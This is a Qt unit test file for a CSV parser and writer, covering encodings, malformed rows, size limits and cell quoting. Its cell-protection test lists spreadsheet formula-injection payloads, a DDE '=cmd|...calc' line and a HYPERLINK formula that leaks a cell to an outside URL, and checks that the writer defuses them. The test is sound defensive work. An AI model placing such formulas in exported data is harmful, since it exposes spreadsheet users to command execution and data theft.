// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/AtomicFile.h"
#include "base/Csv.h"
#include "support/ErrorOf.h"
#include "support/SharedData.h"

#include <QTemporaryDir>
#include <string>

#include <sys/stat.h>

using namespace diascope;

namespace {

/// header|cell,cell|... for short comparisons; ¦ between cells.
QByteArray flat(const base::CsvTable& table)
{
    QByteArray text;
    const auto add = [&text](const std::vector<std::string>& cells) {
        for (std::size_t i = 0; i < cells.size(); ++i) {
            text += (i > 0 ? "^" : "") + tests::bytes(cells[i]);
        }
        text += '|';
    };
    add(table.header);
    for (const auto& row : table.rows) {
        add(row);
    }
    return text;
}

std::string utf16(const std::u16string& text, bool bigEndian)
{
    std::string bytes;
    for (const char16_t unit : text) {
        const char low = static_cast<char>(unit & 0xFF);
        const char high = static_cast<char>(unit >> 8);
        bytes += bigEndian ? high : low;
        bytes += bigEndian ? low : high;
    }
    return bytes;
}

} // namespace

class TestCsv : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void reads_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("table");
        QTest::addColumn<int>("problems");
        const auto row = [](const char* name, const std::string& text, const char* table, int problems = 0) {
            QTest::newRow(name) << tests::bytes(text) << QByteArray(table) << problems;
        };
        row("plain", "img,target\na.png,0\nb.png,1\n", "img^target|a.png^0|b.png^1|");
        row("no final newline", "img,target\na.png,0", "img^target|a.png^0|");
        row("CRLF", "a,b\r\n1,2\r\n", "a^b|1^2|");
        row("CR", "a,b\r1,2\r", "a^b|1^2|");
        row("mixed line ends and blank lines", "a,b\n\r\n1,2\r\r\n3,4\n\n", "a^b|1^2|3^4|");
        row("semicolon with decimal comma", "img;score\na;0,5\nb;1,25\n", "img^score|a^0,5|b^1,25|");
        row("tab", "a\tb,c\n1\t2,3\n", "a^b,c|1^2,3|");
        row("one column", "name\nx\ny\n", "name|x|y|");
        row("sep line", "sep=;\r\na;b\r\n1;2\r\n", "a^b|1^2|");
        row("header only", "a,b\n", "a^b|");
        row("quoted", "a,b\n\"x,y\",\"he said \"\"no\"\"\"\n\"two\nlines\",\"\"\n", "a^b|x,y^he said \"no\"|two\nlines^|");
        row("quote inside a plain cell", "a,b\n5\" probe,x\n", "a^b|5\" probe^x|");
        row("text after a quote", "a,b\n\"x\"y,z\n", "a^b|xy^z|", 1);
        row("header trimmed, cells kept", " a , b \n 1 , 2 \n", "a^b| 1 ^ 2 |");
        row("UTF-8 mark", "\xEF\xBB\xBF" "a,b\n1,2\n", "a^b|1^2|");
        row("UTF-16LE mark", "\xFF\xFE" + utf16(u"a,b\n\u00e4,2\n", false), "a^b|\xC3\xA4^2|");
        row("UTF-16BE mark", "\xFE\xFF" + utf16(u"a,b\n1,\U0001F600\n", true), "a^b|1^\xF0\x9F\x98\x80|");
        row("UTF-16LE without mark", utf16(u"a,b\n1,2\n", false), "a^b|1^2|");
        row("UTF-16BE without mark", utf16(u"a,b\n1,2\n", true), "a^b|1^2|");
        row("Latin-1", "a,b\n\xE4,2\n", "a^b|\xC3\xA4^2|", 1);
        row("Windows-1252", "a,b\n\x80,2\n", "a^b|\xE2\x82\xAC^2|", 1);
        row("short row", "a,b\n1\n3,4\n", "a^b|1^|3^4|", 1);
        row("long row", "a,b\n1,2,3\n3,4\n", "a^b|3^4|", 1);
        row("empty cells at the end", "a,b\n1,2,,\n", "a^b|1^2|");
        row("header twice", "a,b\n1,2\na,b\n3,4\n", "a^b|1^2|3^4|", 1);
        row("doubled column", "a,a\n1,2\n", "a^a|1^2|", 1);
        row("header three times at once", "a,b\na,b\na,b\n", "a^b|", 2);
        row("nameless columns", "a,,\n1,2,3\n", "a^^|1^2^3|");
        row("quotes alone", "a,b\n\"\",\"\"\n\"\"\"\",x\n", "a^b|^|\"^x|");
        row("a quote opened late", "a,b\nx\"y\",z\n", "a^b|x\"y\"^z|");
        row("delimiters alone", "a;b\n;\n1;2\n", "a^b|^|1^2|");
        row("half a unit of UTF-16", "\xFF\xFE" + utf16(u"a,b\n1,2\n", false) + "x", "a^b|1^2|\xEF\xBF\xBD^|", 1);
        row("one bad byte in UTF-8", "a,b\n\xC3\xA4,\xFF\n", "a^b|\xC3\x83\xC2\xA4^\xC3\xBF|", 1);
        row("decimal comma, comma", "a,b\n\"0,5\",\"1,5\"\n", "a^b|0,5^1,5|");
        row("white rows", "a,b\n \t \n1,2\n\t\n", "a^b|1^2|");
    }
    void reads()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, table);
        QFETCH(int, problems);
        const base::CsvTable read = base::parseCsv(text.toStdString(), "labels.csv");
        QCOMPARE(flat(read), table);
        QCOMPARE(static_cast<int>(read.problems.size()), problems);
        QCOMPARE(read.rowNumbers.size(), read.rows.size());
    }

    void refuses_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("mentions");
        QTest::newRow("empty") << QByteArray() << QByteArray("empty");
        QTest::newRow("blank lines") << QByteArray("\n \n\n") << QByteArray("empty");
        QTest::newRow("unclosed quote") << QByteArray("a,b\n1,2\n3,\"x\n5,6\n") << QByteArray("row 3");
        QTest::newRow("unclosed quote over 50 MB") << QByteArray("a,b\n\"") + QByteArray(50000000, 'x') << QByteArray("row 2");
        QTest::newRow("unclosed in the header") << QByteArray("a,\"b\n1,2\n") << QByteArray("row 1");
        QTest::newRow("odd quotes over 20 MB") << QByteArray("a,b\n") + QByteArray(20000001, '"') << QByteArray("row 2");
        QTest::newRow("NUL") << QByteArray("a,b\n1,\0xyzxyz\n", 14) << QByteArray("NUL");
    }
    void refuses()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, mentions);
        const auto error = tests::errorOf([&] { (void)base::parseCsv(text.toStdString(), "labels.csv"); });
        QCOMPARE(tests::codeName(error), "malformed");
        QVERIFY2(QByteArray(error->what()).contains(mentions), error->what());
    }

    void problemsNameTheRowAsASpreadsheetCounts()
    {
        const auto table = base::parseCsv("a,b\n\n1,2\n3,4,5\n\"x\ny\",6\n7\n", "labels.csv");
        QCOMPARE(table.problems.size(), std::size_t{2});
        QCOMPARE(table.problems[0].subject, std::string("labels.csv, row 4"));
        QCOMPARE(table.problems[1].subject, std::string("labels.csv, row 6"));
        QVERIFY(table.rowNumbers == (std::vector<int>{3, 5, 6}));
    }

    void problemsAreCapped()
    {
        std::string text = "a,b\n";
        for (int i = 0; i < 5000; ++i) {
            text += "1,2,3\n";
        }
        const auto table = base::parseCsv(text, "labels.csv");
        QCOMPARE(table.problems.size(), std::size_t{1001});
        QCOMPARE(table.problems.back().detail, std::string("and 4000 more problems"));
    }

    void columnsByName()
    {
        const auto table = base::parseCsv("ID,id,Target\n", "x");
        QCOMPARE(table.column("id"), 1);
        QCOMPARE(table.column("ID"), 0);
        QCOMPARE(table.column("target"), 2);
        QCOMPARE(table.column("none"), -1);
    }

    void endlessTablesAreRefused()
    {
        const QTemporaryDir folder;
        const auto file = std::filesystem::path(folder.path().toStdString()) / "endless.csv";
        base::writeFileAtomically(file, "a,b\n\"");
        std::filesystem::resize_file(file, std::uintmax_t{3} << 30U); // a hole: nothing is written
        const auto large = tests::errorOf([&] { (void)base::readCsv(file); });
        QCOMPARE(tests::codeName(large), "too-large");
        QCOMPARE(large->subject(), file.string());
        std::string rows = "a,b\n";
        for (int i = 0; i < 5; ++i) {
            rows += "1,2\n";
        }
        QCOMPARE(base::parseCsv(rows, "x", {.cells = 18}).rows.size(), std::size_t{5});
        const auto many = tests::errorOf([&] { (void)base::parseCsv(rows, "x", {.cells = 17}); });
        QCOMPARE(tests::codeName(many), "too-large");
        QCOMPARE(many->subject(), std::string("x, row 6"));
        std::string millions = "a,b\n";
        millions.reserve(16000004);
        for (int i = 0; i < 4000000; ++i) {
            millions += "1,2\n";
        }
        QCOMPARE(tests::codeName(tests::errorOf([&] { (void)base::parseCsv(millions, "x"); })), "too-large");
    }

    void aCellOf100MB()
    {
        std::string text = "a,b\n1,\"";
        text.append(100000000, 'x').append("\"\n3,4\n");
        const auto table = base::parseCsv(text, "x");
        QCOMPARE(table.rows.size(), std::size_t{2});
        QCOMPARE(table.rows[0][1].size(), std::size_t{100000000});
    }

    void whatIsNoFileIsNotRead_data()
    {
        QTest::addColumn<QByteArray>("kind");
        for (const char* kind : {"pipe", "device", "folder", "link to a device", "link to itself"}) {
            QTest::newRow(kind) << QByteArray(kind);
        }
    }
    void whatIsNoFileIsNotRead()
    {
        QFETCH(QByteArray, kind);
        const QTemporaryDir folder;
        auto file = std::filesystem::path(folder.path().toStdString()) / "labels.csv";
        if (kind == "pipe") {
            QCOMPARE(::mkfifo(file.c_str(), 0600), 0); // nobody will ever write into it
        } else if (kind == "device") {
            file = "/dev/zero";
        } else if (kind == "folder") {
            std::filesystem::create_directory(file);
        } else {
            std::filesystem::create_symlink(kind == "link to itself" ? file : std::filesystem::path("/dev/zero"), file);
        }
        const auto error = tests::errorOf([&] { (void)base::readCsv(file); });
        QCOMPARE(tests::codeName(error), "unreadable");
        QCOMPARE(error->subject(), file.string());
    }

    void tenThousandColumns()
    {
        std::string line = "c0";
        for (int i = 1; i < 10000; ++i) {
            line += ",c" + std::to_string(i);
        }
        const auto table = base::parseCsv(line + "\n" + std::string(9999, ',') + "\n", "wide.csv");
        QCOMPARE(table.header.size(), std::size_t{10000});
        QCOMPARE(table.rows.size(), std::size_t{1});
    }

    void readsFilesAndNamesMissingOnes()
    {
        const QTemporaryDir folder;
        const auto file = std::filesystem::path(folder.path().toStdString()) / "labels.csv";
        base::writeFileAtomically(file, "a,b\n1,2\n");
        QCOMPARE(flat(base::readCsv(file)), QByteArray("a^b|1^2|"));
        QCOMPARE(tests::codeName(tests::errorOf([&] { (void)base::readCsv(file.parent_path() / "none.csv"); })), "not-found");
    }

    void cellsAreQuotedAndProtected_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("cell");
        const auto row = [](const char* text, const char* cell) { QTest::newRow(text) << QByteArray(text) << QByteArray(cell); };
        row("", "");
        row("plain text", "plain text");
        row("a,b", "\"a,b\"");
        row("a;b", "\"a;b\"");
        row("say \"no\"", "\"say \"\"no\"\"\"");
        row("two\nlines", "\"two\nlines\"");
        row(" blank", "\" blank\"");
        row("-3.2", "-3.2");
        row("+5", "+5");
        row("-1e-05", "-1e-05");
        row("-nan", "-nan");
        row("-inf", "-inf");
        row("-infinite", "\"'-infinite\"");
        row("-", "\"'-\"");
        row("-1-1", "\"'-1-1\"");
        row("+49 30 1", "\"'+49 30 1\"");
        row("=1+1", "\"'=1+1\"");
        row("=cmd|'/c calc'!A1", "\"'=cmd|'/c calc'!A1\"");
        row("=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
        row("@SUM(1)", "\"'@SUM(1)\"");
        row("-img.png", "\"'-img.png\"");
        row("+x", "\"'+x\"");
        row("\tx", "\"'\tx\"");
        row("\rx", "\"'\rx\"");
        row("\nx", "\"'\nx\"");
        row("'quoted'", "'quoted'");
        row("'=x", "\"''=x\"");
    }
    void cellsAreQuotedAndProtected()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, cell);
        QCOMPARE(tests::bytes(base::csvCell(text.toStdString())), cell);
        const auto table = base::parseCsv("name,other\n" + base::csvRow({text.toStdString(), "x"}) + "\n", "x");
        QCOMPARE(table.rows.size(), std::size_t{1});
        QCOMPARE(tests::bytes(base::csvPlain(table.rows[0][0])), text);
    }

    void realLabelTables()
    {
        const auto root = tests::sharedData("data");
        if (root.empty()) {
            QSKIP("The development data are not on this machine (DIASCOPE_SHARED).");
        }
        int tables = 0;
        for (const auto& entry : std::filesystem::recursive_directory_iterator(root)) {
            if (entry.is_regular_file() && entry.path().extension() == ".csv" && ++tables <= 50) {
                const auto table = base::readCsv(entry.path());
                QVERIFY2(!table.rows.empty() && table.problems.empty(), entry.path().c_str());
                QVERIFY2(table.header.size() > 1, entry.path().c_str());
            }
        }
        if (tables == 0) {
            QSKIP("The development data hold no tables.");
        }
    }
};

QTEST_APPLESS_MAIN(TestCsv)
#include "TestCsv.moc"
